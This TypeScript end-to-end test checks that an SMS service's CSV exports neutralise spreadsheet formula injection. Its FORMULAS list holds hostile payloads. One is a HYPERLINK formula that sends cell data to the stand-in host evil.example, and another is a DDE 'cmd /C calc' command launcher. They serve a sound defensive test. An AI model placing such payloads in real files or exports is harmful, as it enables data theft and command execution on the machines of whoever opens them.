import { Caller } from '../support/caller.ts';
import { mapConsole } from '../support/console.ts';
import { eventually, expect, signIn, test } from '../support/test.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '  =1+1',
  '＝1+1',
  '＋1', 
  '－1',
  '＠SUM(1)',
  '"=1+1',
  'fine,"=1+1\n=2+2',
  ';=1+1',
];
const PHONE = '+60123456789';
/** What a spreadsheet takes for a formula; a phone number is a number. */
const isFormula = (cell: string) => /^[\s\0]*[=+\-@＝＋－＠\t\r\n]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

/** The cells of a CSV file (RFC 4180). */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const letter = csv[at]!;
    if (quoted) {
      if (letter !== '"') cell += letter;
      else if (csv[at + 1] === '"') cell += csv[(at += 1)];
      else quoted = false;
    } else if (letter === '"') quoted = true;
    else if (letter === ',' || letter === '\n') {
      rows.at(-1)!.push(cell.replace(/\r$/, ''));
      cell = '';
      if (letter === '\n') rows.push([]);
    } else cell += letter;
  }
  return rows.filter((row) => row.length > 0);
}

test('no export holds a formula, whoever wrote the text', async ({ page, carillon }) => {
  test.setTimeout(120_000);
  await carillon.api('PATCH', '/sites/main', { name: '=1+1' });
  const visit = await fetch(`${carillon.url}/api/v1/sites/main/subscriptions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'user-agent': '=1+1' },
    body: JSON.stringify({ phone: PHONE, consent: true, locale: 'en', wording: '=1+1', page: 'https://shop.example/' }),
  });
  expect(visit.status).toBe(202);
  await carillon.judged();
  for (const [place, body] of FORMULAS.entries()) {
    await carillon.api('POST', '/sites/main/broadcasts', { body, audience: { type: 'all' } }, { 'idempotency-key': `formula-${place}` });
    await carillon.text(PHONE, `what? ${body}`);
    await carillon.text(PHONE, body);
  }
  const typed = { body: 'To typed numbers', audience: { type: 'numbers', numbers: '60123456780,=1+1,@SUM(1)' } };
  await carillon.api('POST', '/sites/main/broadcasts', typed, { 'idempotency-key': 'typed' });
  await eventually('all is sent', async () => (await carillon.api('GET', '/sites/main/messages?status=queued')).total === 0 || undefined);
  const { items } = await carillon.api('GET', '/sites/main/messages?per_page=100');
  expect(items.filter((message: any) => isFormula(message.body)).length, 'the texts themselves are as they were written').toBeGreaterThan(8);

  await signIn(page);
  const { files, pages } = await mapConsole(page);
  const exports = [...new Set([...files, ...pages].filter((path) => /\.csv(\?|$)/.test(path)).map((path) => path.split('?')[0]!))];
  expect(exports).toEqual(expect.arrayContaining(['/admin/sites/main/history.csv', '/admin/sites/main/costs.csv']));
  const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
  const owner = new Caller(carillon.url, cookie);
  for (const path of exports) {
    const answer = await owner.get(path);
    expect(answer.status, path).toBe(200);
    expect(answer.headers.get('content-type'), path).toContain('text/csv');
    expect(answer.headers.get('content-disposition'), path).toMatch(/^attachment/);
    const rows = cells(answer.text);
    expect(rows.flat().filter(isFormula), path).toEqual([]);
    expect(new Set(rows.map((row) => row.length)).size, `${path}: rows of one width`).toBe(1);
    if (path.endsWith('history.csv')) {
      const defused = rows.flat().filter((cell) => cell.startsWith("'"));
      expect(defused.length, 'they are there, with an apostrophe before them').toBeGreaterThan(8);
    }
  }
});
